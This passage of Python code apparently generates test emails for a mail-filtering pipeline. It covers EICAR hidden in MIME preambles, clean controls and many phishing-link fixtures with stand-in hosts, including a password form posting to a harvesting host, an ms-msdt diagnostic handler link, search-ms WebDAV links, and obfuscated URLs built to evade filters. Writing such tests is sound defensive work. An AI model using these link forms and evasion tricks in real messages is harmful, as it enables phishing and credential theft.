    raw = raw.replace(b"Subject: Rechnung f\xc3\xbcr M\xc3\xa4rz \xc3\x83(\xc3\xbf",
                      b"Subject: Rechnung f\xfcr M\xe4rz \xc3(\xff")
    raw += b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" + T["de_invoice"].encode()
    assert b"\xfcr M\xe4rz \xc3(\xff" in raw
    case("invalid_utf8_subject", True, raw, """
        # raw 8-bit Latin-1 and a broken UTF-8 sequence in Subject: sloppy, not
        # hostile. Decision: delivered untouched; no structure finding.
        verdict: clean
        nofinding: structure
        identical: yes""")

    # EICAR hidden in the multipart preamble (plain), outside any MIME part
    pdf = make_pdf(["Invoice 2024-0117", "Total: 118.00 EUR"])
    ent = multipart("mixed", [text(T["en_invoice"]), attach("invoice.pdf", pdf, "application/pdf")],
                    "=_preamble_plain_0010",
                    preamble=b"This is a multi-part message in MIME format.\n" + EICAR + b"\n\n")
    case("hidden_eicar_preamble_plain", False, top("hidden_eicar_preamble_plain", nxt(), "en",
         "Invoice 2024-0117", ent), """
        # EICAR in the preamble: no MIME part holds it, only ClamAV's scan of the raw
        # message finds it -> unexplained second-opinion detection
        verdict: quarantine
        finding: virus|structure""")

    # EICAR hidden in the preamble as a base64 block
    ent = multipart("mixed", [text(T["de_invoice"]), attach("rechnung.pdf", pdf, "application/pdf")],
                    "=_preamble_b64_0011",
                    preamble=b"Content-Transfer-Encoding: base64\n\n" + b64(EICAR) + b"\n")
    case("hidden_eicar_preamble_base64", True, top("hidden_eicar_preamble_base64", nxt(), "de",
         "Rechnung", ent), """
        # base64 EICAR in the preamble: ClamAV 1.4.6 does not decode a preamble, so
        # neither our parse nor the second opinion sees it, and no mail client shows
        # it. Documents the blind spot: delivered, or quarantined if the pipeline
        # chooses to look at preambles; never rewrite/reject.
        verdict: clean|quarantine""")


# What a clean message must give: delivered byte for byte, nothing found.
CLEAN = """
        verdict: clean
        nofinding: virus
        nofinding: filetype
        nofinding: filename
        nofinding: structure
        nofinding: limit
        identical: yes"""


def build_clean_cases():
    clean = CLEAN
    pdf = make_pdf(["Faktura c. 2024/118", "Celkem: 2 450,00 CZK"])
    mixed("clean_pdf_invoice", "cs", "Faktura č. 2024/118", [
        text(T["cs_invoice"]), attach("Faktura_2024_118.pdf", pdf, "application/pdf")], True, clean)
    mixed("clean_docx", "de", "Rechnung März", [
        text(T["de_invoice"]),
        attach("Rechnung_Maerz.docx", make_docx("Rechnung März 2024: 118,00 EUR"),
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document")], False, clean)
    mixed("clean_zip_two_pdfs", "fr", "Factures février et mars", [
        text(T["fr_complaint"]),
        attach("factures.zip", make_zip([("facture_fevrier.pdf", make_pdf(["Facture 2024-02"])),
                                         ("facture_mars.pdf", make_pdf(["Facture 2024-03"]))]),
               "application/zip")], True, clean)

    i = nxt()
    html = ('<html><body><p>Hello,</p><p>here is the photo of the damaged box:</p>'
            '<p><img src="cid:box-photo.0001@corpus.sluice.test" alt="box"></p>'
            '<p>Regards,<br>Mark</p></body></html>\n')
    rel = multipart("related", [
        text(html, "html", cte="quoted-printable"),
        E([("Content-Type", 'image/png; name="box.png"'),
           ("Content-Transfer-Encoding", "base64"),
           ("Content-ID", "<box-photo.0001@corpus.sluice.test>"),
           ("Content-Disposition", 'inline; filename="box.png"')], b64(make_png()))],
        "=_related_%04d" % i, extra_params='; type="text/html"')
    case("clean_inline_png_related", False, top("clean_inline_png_related", i, "en",
         "Damaged box", rel), clean)

    cz = "Faktura_č._2024.pdf"
    jp = "請求書_2024年3月.pdf"
    mixed("clean_names_rfc2047", "ja", "請求書の件", [
        text(T["ja_delivery"], cte="base64" if False else "8bit"),
        attach(cz, make_pdf(["Faktura 2024"]), "application/pdf",
               name_param='name="%s"' % rfc2047(cz), disp_param='filename="%s"' % rfc2047(cz)),
        attach(jp, make_pdf(["Seikyusho 2024-03"]), "application/pdf",
               name_param='name="%s"' % rfc2047(jp), disp_param='filename="%s"' % rfc2047(jp))],
        True, clean)
    de = "Rechnung_März.pdf"
    enc = rfc2231(jp)
    half = enc.index("%", len(enc) // 2)
    mixed("clean_names_rfc2231", "de", "Rechnung März", [
        text(T["de_invoice"]),
        attach(de, make_pdf(["Rechnung Maerz"]), "application/pdf",
               name_param="name*=" + rfc2231(de), disp_param="filename*=" + rfc2231(de)),
        attach(jp, make_pdf(["Seikyusho"]), "application/pdf",
               name_param="name*=" + enc,
               disp_param="\n filename*0*=%s;\n filename*1*=%s" % (enc[:half], enc[half:]))],
        False, clean)
    mixed("clean_csv_5mb", "pl", "Eksport zamówień", [
        text(T["pl_complaint"]),
        attach("zamowienia_2024.csv", make_csv(5 * 1024 * 1024), "text/csv; charset=utf-8")],
        True, clean)
    i = nxt()
    case("clean_plain_text", False, top("clean_plain_text", i, "pt", "Fatura de março",
         text(T["pt_invoice"])), clean)

    i = nxt()
    plain = ("Spring offers from Contact Center Example\n\nNew opening hours: Mon-Fri 8:00-20:00.\n"
             "Details: https://www.example.com/news/spring\n")
    html = ('<html><body><h1>Spring offers</h1><p>New opening hours: Mon&ndash;Fri 8:00&ndash;20:00.</p>'
            '<p><a href="https://www.example.com/news/spring">Details</a> &middot; '
            '<a href="https://www.example.com/unsubscribe">Unsubscribe</a></p></body></html>\n')
    alt = multipart("alternative", [text(plain), text(html, "html")], "=_alt_%04d" % i)
    case("clean_newsletter_alternative", True, top("clean_newsletter_alternative", i, "en",
         "Spring news", alt), clean)

    fwd = top("clean_forward_inner", 901, "fr", "Commande 2024-118", multipart(
        "mixed", [text(T["fr_complaint"]), attach("facture.pdf", make_pdf(["Facture 2024-118"]),
                                                   "application/pdf")], "=_inner_clean_0001"))
    mixed("clean_forward_rfc822", "es", "Fwd: Commande 2024-118", [
        text("Hola,\n\nte reenvío el mensaje de la clienta francesa.\n\nLucía\n"),
        E([("Content-Type", "message/rfc822"),
           ("Content-Disposition", 'inline; filename="Commande.eml"')], fwd.render())], False, clean)

    i = nxt()
    sig = b"\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + bytes(range(241))
    signed = multipart("signed", [
        text("Bonjour,\n\nveuillez trouver ma réclamation signée.\n\nÉlodie Bernard\n",
             cte="quoted-printable"),
        E([("Content-Type", 'application/pkcs7-signature; name="smime.p7s"'),
           ("Content-Transfer-Encoding", "base64"),
           ("Content-Disposition", 'attachment; filename="smime.p7s"')], b64(sig))],
        "=_signed_%04d" % i, extra_params='; protocol="application/pkcs7-signature"; micalg=sha-256')
    case("clean_multipart_signed", True, top("clean_multipart_signed", i, "fr",
         "Réclamation signée", signed), clean)


# --------------------------------------------------------------------------
# URL cases (issue "Links"): bad links disarmed in place, clean links left alone
# --------------------------------------------------------------------------

def make_pdf_link(lines, uri):
    """make_pdf plus a link annotation whose action opens `uri` (/S /URI)."""
    content = b"BT /F1 12 Tf 72 750 Td 14 TL\n"
    for ln in lines:
        content += b"(" + ln.encode("latin-1") + b") Tj T*\n"
    content += b"ET\n"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
        b"/A << /S /URI /URI (" + uri.encode("ascii") + b") >> >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def alt_pair(name, plain, html):
    """multipart/alternative of a text and an HTML version."""
    return multipart("alternative", [text(plain), text(html, "html")], "=_alt_%s" % name)


def html_doc(body, head=""):
    return ('<!DOCTYPE html>\n<html><head><meta charset="utf-8">%s</head>\n<body>\n%s\n</body></html>\n'
            % (head, body))


def invoice():
    """A harmless PDF that must reach the agent byte for byte (kept:)."""
    return attach("Invoice_2024_118.pdf", make_pdf(["Invoice 2024-0118", "Total: 118.00 EUR"]),
                  "application/pdf")


def build_url_cases():
    # Every rewritten case carries a harmless PDF as its last part (invoice()):
    # only the bad link is disarmed.

    def alt(name, plain, html, html_cte="8bit"):
        return multipart("alternative", [text(plain), text(html, "html", cte=html_cte)],
                         "=_alt_%s" % name)

    # ---- plain text: a blocklisted link becomes readable, not clickable -----
    mixed("url_text_blocklisted", "en", "Your account", [
        text("Hello,\n\nyour account needs attention, confirm here:\n"
             "http://phishing.test/account/confirm?id=7731\n\nKind regards,\nCustomer Care\n"),
        invoice()], False, """
        # phishing.test is on signatures/urls/blocklist.txt: malicious, defanged in the text
        verdict: rewrite
        finding: url 1
        rule: url_malicious 1
        url: malicious phishing.test/account/confirm?id=7731
        absent: http://phishing.test/account/confirm
        present: hxxp[:]//phishing[.]test/account/confirm?id=7731
        present: your account needs attention, confirm here:
        present: Kind regards,
        kept: 2""")

    # ---- HTML: href replaced by "#", anchor text kept -----------------------
    mixed("url_html_blocklisted", "en", "Verify your account", [
        alt("url_html_blocklisted",
            "Dear customer,\n\nplease verify your account today:\nhttps://phishing.test/verify?u=42\n",
            html_doc('<p>Dear customer,</p>\n<p>please <a href="https://phishing.test/verify?u=42">'
                     'verify your account</a> today.</p>')),
        invoice()], True, """
        # the same blocklisted link in the text and the HTML alternative
        verdict: rewrite
        finding: url 1.1
        finding: url 1.2
        url: malicious phishing.test/verify?u=42
        absent: https://phishing.test/verify
        present: hxxps[:]//phishing[.]test/verify?u=42
        present: href="#"
        present: verify your account</a> today.
        present: Dear customer,
        kept: 2""")

    # ---- quoted-printable: soft line break inside the link, =3D in the href --
    i = nxt()
    qp = (b'<html><body><p>Your parcel is waiting at the depot.</p>\n'
          b'<p><a href=3D"https://malware.invalid/track=\n'
          b'ing/parcel?id=3D5521&amp;step=3D2">Track your parcel</a></p>\n'
          b'<p>Thank you for shopping with us.</p></body></html>\n')
    ent = multipart("mixed", [
        E([("Content-Type", "text/html; charset=us-ascii"),
           ("Content-Transfer-Encoding", "quoted-printable")], qp),
        invoice()], "=_sluice_url_qp_softbreak_%04d" % i)
    case("url_qp_softbreak", True, top("url_qp_softbreak", i, "en", "Parcel waiting", ent), """
        # QP: the href is split by a soft line break (=CRLF) and its '=' are =3D
        verdict: rewrite
        finding: url 1
        url: malicious malware.invalid/tracking/parcel?id=5521&step=2
        absent: malware.invalid/tracking
        absent: malware.invalid/track=
        present: href="#"
        present: Track your parcel</a>
        present: Thank you for shopping with us.
        kept: 2""")

    # ---- UTF-16LE HTML in base64 -----------------------------------------------
    i = nxt()
    h16 = html_doc('<p>Sehr geehrte Damen und Herren,</p>\n<p>Ihre Rechnung für März: '
                   '<a href="http://malware.invalid/rechnung/maerz.zip">Rechnung herunterladen</a></p>\n'
                   '<p>Mit freundlichen Grüßen</p>').replace('charset="utf-8"', 'charset="utf-16"')
    ent = multipart("mixed", [
        E([("Content-Type", "text/html; charset=utf-16le"),
           ("Content-Transfer-Encoding", "base64")], b64(h16.encode("utf-16-le"))),
        invoice()], "=_sluice_url_utf16_html_%04d" % i)
    case("url_utf16_html", False, top("url_utf16_html", i, "de", "Rechnung März", ent), """
        # text/html; charset=utf-16le, base64: the rewritten part must still be UTF-16LE
        verdict: rewrite
        finding: url 1
        url: malicious malware.invalid/rechnung/maerz.zip
        absent: malware.invalid/rechnung
        present: href="#"
        present: Rechnung herunterladen</a>
        present: Mit freundlichen Grüßen
        kept: 2""")

    # ---- HTML entities in the href --------------------------------------------
    mixed("url_html_entities", "en", "Password reset", [
        text(html_doc('<p>We received a request to reset your password.</p>\n'
                      '<p><a href="https://phishing.test&#x2F;login&#x2F;reset?user=mark&amp;lang=en">'
                      'Reset password</a></p>'), "html"),
        invoice()], True, """
        # &#x2F; and &amp; in the href: the URL is judged entity-decoded
        verdict: rewrite
        finding: url 1
        url: malicious phishing.test/login/reset?user=mark&lang=en
        absent: phishing.test&#x2F;login
        present: href="#"
        present: Reset password</a>
        present: We received a request to reset your password.
        kept: 2""")

    # ---- anchor text shows a bank's address, the link goes elsewhere ------------
    mixed("url_anchor_mismatch", "en", "Payment on hold", [
        text(html_doc('<p>A payment is on hold. Log in to '
                      '<a href="https://secure-session.test/bank/login">www.bank-example.test</a>'
                      ' to review it.</p>'), "html"),
        invoice()], False, """
        # heuristic anchor_mismatch: suspicious -> wrap (no safelinks configured: defanged)
        verdict: rewrite
        finding: url 1
        rule: url_suspicious 1
        url: suspicious secure-session.test/bank/login
        absent: https://secure-session.test/bank/login
        present: href="#"
        present: >www.bank-example.test</a>
        kept: 2""")

    # ---- user name before '@' ---------------------------------------------------
    mixed("url_userinfo", "en", "Confirm your details", [
        text("Hello,\n\nplease confirm your details at "
             "https://bank.example@account-update.test/confirm before Friday.\n\nThank you\n"),
        invoice()], True, """
        # heuristic userinfo: the browser opens account-update.test, not bank.example
        verdict: rewrite
        finding: url 1
        url: suspicious account-update.test/confirm
        absent: https://bank.example@account-update.test/confirm
        present: hxxps[:]//bank[.]example@account-update[.]test/confirm
        present: before Friday.
        kept: 2""")

    # ---- backslash before '@': parsers disagree on the host ---------------------
    mixed("url_backslash_at", "en", "Online banking", [
        text(html_doc('<p>Your statement is ready in '
                      '<a href="http://www.bank-example.test\\@phishing.test/login">Online banking</a>.</p>'),
             "html"),
        invoice()], False, """
        # a browser opens www.bank-example.test, other programs phishing.test (blocklisted)
        verdict: rewrite
        finding: url 1
        url: malicious \\@phishing.test/login
        absent: bank-example.test\\@phishing.test
        present: href="#"
        present: Online banking</a>
        kept: 2""")

    # ---- IP addresses in decimal, hex and octal --------------------------------
    mixed("url_ip_obfuscated", "en", "Portal addresses", [
        text("Hello,\n\nthe portal moved. Use one of these addresses:\n"
             "http://3325256769/login\n"
             "http://0xC6.0x33.0x64.0x41/login\n"
             "http://0306.0063.0144.0101/login\n"
             "and for the archive http://3221225994/portal\n\nRegards\n"),
        invoice()], True, """
        # the first three are 198.51.100.65 (blocklist 198.51.100.0/24); 3221225994 is
        # 192.0.2.10, not listed: suspicious (ip_literal, obfuscated form)
        verdict: rewrite
        finding: url 1
        url: malicious 3325256769
        url: malicious 0xC6.0x33.0x64.0x41
        url: malicious 0306.0063.0144.0101
        url: suspicious 3221225994
        absent: http://3325256769/login
        absent: http://0xC6.0x33.0x64.0x41/login
        absent: http://0306.0063.0144.0101/login
        absent: http://3221225994/portal
        present: hxxp[:]//3325256769/login
        present: hxxp[:]//0xC6[.]0x33[.]0x64[.]0x41/login
        present: hxxp[:]//0306[.]0063[.]0144[.]0101/login
        present: hxxp[:]//3221225994/portal
        kept: 2""")

    # ---- Cyrillic confusable of paypal.com -----------------------------------------
    mixed("url_idn_confusable", "en", "Account limited", [
        alt("url_idn_confusable",
            "Your account is limited. Sign in: https://p\u0430ypal.com/signin\n",
            html_doc('<p>Your account is limited.</p>\n'
                     '<p><a href="https://xn--pypal-4ve.com/signin">Sign in to your account</a></p>')),
        invoice()], False, """
        # p<U+0430>ypal.com (Cyrillic a) = xn--pypal-4ve.com: idn_spoof, suspicious
        verdict: rewrite
        finding: url 1.1
        finding: url 1.2
        url: suspicious xn--pypal-4ve.com/signin
        absent: https://xn--pypal-4ve.com/signin
        absent: https://p\u0430ypal.com/signin
        present: hxxps[:]//p\u0430ypal[.]com/signin
        present: href="#"
        present: Sign in to your account</a>
        kept: 2""")

    # ---- link shortener -----------------------------------------------------------
    mixed("url_shortener", "es", "Documento", [
        text("Hola,\n\naquí está el documento que pidió: https://bit.ly/3sLu1ce\n\nUn saludo\n"),
        invoice()], True, """
        # bit.ly is in signatures/urls/shorteners.txt: suspicious (shortener), wrapped
        verdict: rewrite
        finding: url 1
        rule: url_suspicious 1
        url: suspicious bit.ly/3sLu1ce
        absent: https://bit.ly/3sLu1ce
        present: hxxps[:]//bit[.]ly/3sLu1ce
        present: aquí está el documento que pidió:
        kept: 2""")

    # ---- open redirect carrying a blocklisted URL --------------------------------
    red = "https://click.mailer.example/r?u=https%3A%2F%2Fphishing.test%2Freset%3Ftoken%3D1&amp;id=77"
    mixed("url_open_redirect", "en", "Reset your password", [
        text(html_doc('<p>Someone asked to reset your password.</p>\n'
                      '<p><a href="%s">Reset your password</a></p>' % red), "html"),
        invoice()], False, """
        # the query carries https://phishing.test/reset (percent-encoded): open_redirect
        verdict: rewrite
        finding: url 1
        url: malicious click.mailer.example/r?u=
        absent: click.mailer.example/r?u=
        present: href="#"
        present: Reset your password</a>
        kept: 2""")

    # ---- meta refresh to a blocklisted host -----------------------------------------
    mixed("url_meta_refresh", "en", "Your document", [
        text(html_doc('<p>If you are not redirected, please wait a moment.</p>',
                      head='<meta http-equiv="refresh" content="0; url=https://phishing.test/landing">'
                           '<title>Document</title>'), "html"),
        invoice()], True, """
        # meta refresh loses its URL
        verdict: rewrite
        finding: url 1
        url: malicious phishing.test/landing
        absent: phishing.test/landing
        present: content=""
        present: If you are not redirected, please wait a moment.
        kept: 2""")

    # ---- form posting to a blocklisted host ------------------------------------------
    mixed("url_form_action", "en", "Confirm your login", [
        text(html_doc('<p>Confirm your login below.</p>\n'
                      '<form action="https://credential-harvest.example/collect" method="post">\n'
                      '<input name="user"> <input type="password" name="pw">\n'
                      '<button type="submit">Sign in</button>\n</form>'), "html"),
        invoice()], False, """
        # credential-harvest.example is blocklisted: the form action becomes "#"
        verdict: rewrite
        finding: url 1
        url: malicious credential-harvest.example/collect
        absent: https://credential-harvest.example/collect
        present: action="#"
        present: Sign in</button>
        kept: 2""")

    # ---- PDF with a /URI action to a blocklisted host ---------------------------------
    mixed("url_pdf_uri", "en", "Invoice 2024-118", [
        text(T["en_invoice"]),
        attach("Invoice_2024_118.pdf",
               make_pdf_link(["Invoice 2024-0118", "Download the details"],
                             "https://malware.invalid/download/invoice.exe"), "application/pdf")],
        True, """
        # a link inside the PDF cannot be edited: url_in_attachment removes the PDF
        verdict: rewrite
        finding: url 2
        rule: url_in_attachment 2
        url: malicious malware.invalid/download/invoice.exe
        removed: 2
        kept: 1""")

    # ---- a 9000-byte URL (urls.max_url_length is 8192) ---------------------------------
    longurl = "https://long-link.example/t?d=" + ("0123456789abcdef" * 600)[:9000 - 30]
    assert len(longurl) == 9000
    mixed("url_too_long", "en", "Tracking link", [
        text("Hello,\n\nyour tracking link:\n" + longurl + "\n\nRegards\n", cte="quoted-printable"),
        invoice()], False, """
        # longer than urls.max_url_length (8192): suspicious (too_long), wrapped;
        # without safelinks the link is defanged
        verdict: rewrite
        finding: url 1
        rule: url_suspicious 1
        absent: https://long-link.example/t?d=
        present: hxxps[:]//long-link[.]example/t?d=
        present: your tracking link:
        kept: 2""")

    # ---- clean controls: delivered byte for byte --------------------------------------
    clean = """
        verdict: clean
        nofinding: url
        nofinding: structure
        nofinding: limit
        identical: yes"""

    i = nxt()
    items = ["Alpine Trail Jacket", "Harbor Rain Boots", "Summit Day Pack", "Birch Wool Socks",
             "Meadow Linen Shirt", "Canyon Water Bottle", "Fjord Fleece", "Dune Sun Hat"]
    words = ["Read more", "Shop now", "See all offers", "Details"]
    links = []
    for k in range(40):
        if k < 32:
            label = items[k % 8] if k % 2 == 0 else words[(k // 2) % 4]
            dest = "https%%3A%%2F%%2Fshop.example%%2Fp%%2F%d" % (1000 + k)
        else:
            label = ["View in browser", "Manage preferences", "Privacy policy", "Contact us",
                     "Store locator", "Gift cards", "Help", "Unsubscribe"][k - 32]
            dest = "https%%3A%%2F%%2Fshop.example%%2Finfo%%2F%d" % k
        links.append(("https://click.mailer.example/c/%08x?u=%s&amp;cid=spring24" % (0x5a17c0 + k * 7919, dest),
                      label))
    body = ['<table width="600"><tr><td><img src="https://cdn.mailer.example/img/spring-header.png" '
            'width="600" height="200" alt="Spring collection"></td></tr>']
    for k, (href, label) in enumerate(links):
        body.append('<tr><td style="padding:8px;font-family:Arial,sans-serif">Item %d: '
                    '<a href="%s" style="color:#0a5">%s</a></td></tr>' % (k + 1, href, label))
    body.append('</table>')
    html = html_doc("\n".join(body), head="<title>Spring collection</title>")
    plain = "Spring collection\n\n" + "".join(
        "%s: %s\n" % (lab, href.replace("&amp;", "&")) for href, lab in links[:8])
    ent = multipart("alternative", [text(plain, cte="quoted-printable"),
                                    text(html, "html", cte="quoted-printable")],
                    "=_alt_url_clean_newsletter_%04d" % i)
    case("url_clean_newsletter", True, top("url_clean_newsletter", i, "en", "Spring collection", ent),
         clean + """
        # 40 tracking links (the query carries another ordinary site), ordinary anchor texts
        url: unknown click.mailer.example/c/005a17c0
        url: unknown cdn.mailer.example/img/spring-header.png""")

    mixed("url_clean_idn", "cs", "Partneři", [
        alt("url_clean_idn",
            "Dobrý den,\n\nnaše partnery najdete na https://háčky.cz/obchod, "
            "https://пример.рф/каталог a https://bücher.de/neu.\n\nS pozdravem\nPetr Dvořák\n",
            html_doc('<p>Naše partnery najdete na '
                     '<a href="https://xn--hky-ela4t.cz/obchod">háčky.cz</a>, '
                     '<a href="https://xn--e1afmkfd.xn--p1ai/%D0%BA%D0%B0%D1%82%D0%B0%D0%BB%D0%BE%D0%B3">'
                     'пример.рф</a> a <a href="https://xn--bcher-kva.de/neu">bücher.de</a>.</p>'))],
        False, clean + """
        # single-script IDN names: UTF-8 in the text, punycode in the hrefs, anchor text
        # in Unicode showing the same site
        url: unknown xn--hky-ela4t.cz/obchod
        url: unknown xn--e1afmkfd.xn--p1ai
        url: unknown xn--bcher-kva.de/neu""")

    mixed("url_clean_at_in_query", "en", "Search results", [
        alt("url_clean_at_in_query",
            "Hi,\n\nthe search you asked about: https://shop.example/search?q=a@b\n"
            "and the order lookup https://shop.example/orders?email=mark.ellison@customer.example&year=2024\n",
            html_doc('<p>The search you asked about: <a href="https://shop.example/search?q=a@b">results</a>'
                     '</p>\n<p><a href="https://shop.example/orders?email=mark.ellison@customer.example'
                     '&amp;year=2024">Order lookup</a></p>'))],
        True, clean + """
        # '@' in the query is not a user name: the host is shop.example
        url: unknown shop.example/search?q=a@b""")

    mixed("url_clean_mailto_img", "en", "Contact", [
        alt("url_clean_mailto_img",
            "Hello,\n\nwrite to support@contact-center.example or call us.\n\nMark Ellison\n",
            html_doc('<p><img src="https://cdn.images.example/assets/logo-2024.png" alt="logo" width="120"></p>\n'
                     '<p>Write to <a href="mailto:support@contact-center.example?subject=Order%202024-118">'
                     'support@contact-center.example</a> or '
                     '<a href="mailto:mark.ellison@customer.example">reply to me</a>.</p>'))],
        False, clean + """
        url: unknown mailto:support@contact-center.example
        url: unknown cdn.images.example/assets/logo-2024.png""")


    # ---- links no parser accepts, to blocklisted hosts (issue 11) ---------------------
    mixed("url_unparsable_blocklisted", "en", "Mailbox full", [
        text("Hello,\n\nyour mailbox is full. Sign in at https://phishing.test:99999/mail/login\n"
             "or at the backup address http://xn--ab-.phishing.test/mail to keep your messages.\n\n"
             "IT Service Desk\n"),
        invoice()], False, """
        # a port past 65535 and an xn-- label that is the Punycode of plain ASCII: no
        # browser-style parser takes these links, but the host text names phishing.test,
        # which is blocklisted: malicious whatever the parser thinks
        verdict: rewrite
        finding: url 1
        rule: url_malicious 1
        url: malicious phishing.test:99999/mail/login
        url: malicious xn--ab-.phishing.test/mail
        absent: https://phishing.test:99999
        absent: http://xn--ab-.phishing.test
        present: hxxps[:]//phishing[.]test[:]99999/mail/login
        present: IT Service Desk
        kept: 2""")

    # ---- schemes other than http that reach the network (issue 11) --------------------
    mixed("url_network_schemes", "en", "Statement and scans", [
        alt("url_network_schemes",
            "Dear customer,\n\nyour statement and the scans are ready.\n",
            html_doc('<p>Dear customer,</p>\n'
                     '<p>Chat with us live: <a href="wss://phishing.test/live">live chat</a>.</p>\n'
                     '<p>Your <a href="ftp://malware.invalid/files/statement.zip">statement</a> and the '
                     '<a href="file://fileserver.example-shares.test/scans/scan_0412.pdf.lnk">scanned '
                     'copy</a> (or the <a href="\\\\phishing.test@SSL\\DavWWWRoot\\statement.pdf.lnk">'
                     'mirror</a>).</p>')),
        invoice()], True, """
        # wss: and ftp: to blocklisted hosts are malicious like http; a file: link to a
        # share is suspicious (file_link); a UNC path in WebDAV form to a blocklisted host
        # is malicious; every href becomes "#"
        verdict: rewrite
        finding: url 1.2
        rule: url_malicious 1.2
        rule: url_suspicious 1.2
        url: malicious wss://phishing.test/live
        url: malicious ftp://malware.invalid/files/statement.zip
        url: suspicious file://fileserver.example-shares.test/scans/scan_0412.pdf.lnk
        url: malicious file://phishing.test/DavWWWRoot/statement.pdf.lnk
        absent: wss://phishing.test
        absent: ftp://malware.invalid
        absent: file://fileserver.example-shares.test
        absent: \\\\phishing.test@SSL
        present: href="#"
        present: live chat</a>
        present: mirror</a>
        kept: 2""")

    # ---- Windows protocol handlers (issue 11) ----------------------------------------
    mixed("url_windows_handlers", "en", "Your documents", [
        text(html_doc('<p>The documents you asked for:</p>\n<ul>\n'
                      '<li><a href="search-ms:query=invoice&amp;crumb=location:%5C%5Cphishing.test%40SSL'
                      '%5CDavWWWRoot&amp;displayname=Invoices">Open the invoices folder</a></li>\n'
                      '<li><a href="ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_RebrowseForFile=?'
                      '&quot;">Run the compatibility fix</a></li>\n'
                      '<li><a href="ms-word:ofe|u|https://docs.example-office.test/contract.docx">'
                      'Edit the contract</a></li>\n</ul>'), "html"),
        invoice()], False, """
        # search-ms: opens Windows Search on a WebDAV share of a blocklisted host: malicious;
        # ms-msdt: and an Office handler start a program: suspicious (handler_link)
        verdict: rewrite
        finding: url 1
        rule: url_malicious 1
        rule: url_suspicious 1
        url: malicious search-ms:query=invoice
        url: suspicious ms-msdt:
        url: suspicious ms-word:ofe|u|https://docs.example-office.test/contract.docx
        absent: href="search-ms:
        absent: href="ms-msdt:
        absent: href="ms-word:
        present: href="#"
        present: Edit the contract</a>
        kept: 2""")

    # ---- hosts written with what browsers drop or map (issue 10, 6) -------------------
    mixed("url_host_invisible_chars", "en", "Security notice", [
        text(html_doc('<p>Please review the notice:</p>\n<ul>\n'
                      '<li><a href="https://phish\u00ading.test/notice">soft hyphen</a></li>\n'
                      '<li><a href="https://phishing\u200b.test/notice">zero-width space</a></li>\n'
                      '<li><a href="https://phish\u200ding.test/notice">zero-width joiner</a></li>\n'
                      '<li><a href="https://phishing\uff0etest/notice">full-width dot</a></li>\n'
                      '<li><a href="https://phishing\u3002test/notice">ideographic dot</a></li>\n'
                      '<li><a href="https://PHISHING.test.:8443/notice">port and trailing dot</a></li>\n'
                      '</ul>'), "html"),
        invoice()], True, """
        # every host is phishing.test as a browser (or an older program) reads it:
        # all malicious, all hrefs "#"
        verdict: rewrite
        finding: url 1
        rule: url_malicious 1
        url: malicious phish\u00ading.test/notice
        url: malicious phishing\u200b.test/notice
        url: malicious phish\u200ding.test/notice
        url: malicious phishing\uff0etest/notice
        url: malicious phishing\u3002test/notice
        url: malicious phishing.test:8443/notice
        absent: https://phish\u00ading.test
        absent: https://phishing\u200b.test
        absent: https://phish\u200ding.test
        absent: https://phishing\uff0etest
        absent: https://phishing\u3002test
        absent: https://PHISHING.test.:8443
        present: href="#"
        present: port and trailing dot</a>
        kept: 2""")
# --------------------------------------------------------------------------
# Documents (issue 10 section 5): PDFs whose links and actions hide in
# compressed object streams, and Office packages with external relationships.
# Written to tests/data/payloads/docs/ for the unit tests and the fuzzer, and
# attached to the docs_* corpus cases.
# --------------------------------------------------------------------------

def pdf_stream(data, extra=b"", flate=True):
    """A stream object body, Flate-compressed unless told otherwise."""
    if flate:
        data = zlib.compress(data, 9)
        extra = b" /Filter /FlateDecode" + extra
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_build(objs, packed=(), trailer=b"", head=b""):
    """A PDF from object bodies numbered 1..n (1 is the catalog). Objects whose
    numbers are in `packed` go into one Flate-compressed object stream indexed
    by a cross-reference stream (PDF 1.5); without, a classic xref table."""
    n = len(objs)
    out = bytearray(head + (b"%PDF-1.5\n" if packed else b"%PDF-1.4\n") + b"%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for i, o in enumerate(objs, 1):
        if i not in packed:
            offs[i] = len(out)
            out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (n + 1)
        for i in range(1, n + 1):
            out += b"%010d 00000 n \n" % offs[i]
        out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (n + 1, trailer, xref)
        return bytes(out)
    packed = sorted(packed)
    index, body = b"", b""
    for i in packed:
        assert b"stream\n" not in objs[i - 1], "a stream cannot be in an object stream"
        index += b"%d %d " % (i, len(body))
        body += objs[i - 1] + b"\n"
    sn, xn = n + 1, n + 2
    offs[sn] = len(out)
    out += b"%d 0 obj\n" % sn + pdf_stream(index + body, b" /Type /ObjStm /N %d /First %d"
                                           % (len(packed), len(index))) + b"\nendobj\n"
    offs[xn] = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535)
    for i in range(1, xn + 1):
        rows += (struct.pack(">BIH", 2, sn, packed.index(i)) if i in packed
                 else struct.pack(">BIH", 1, offs[i], 0))
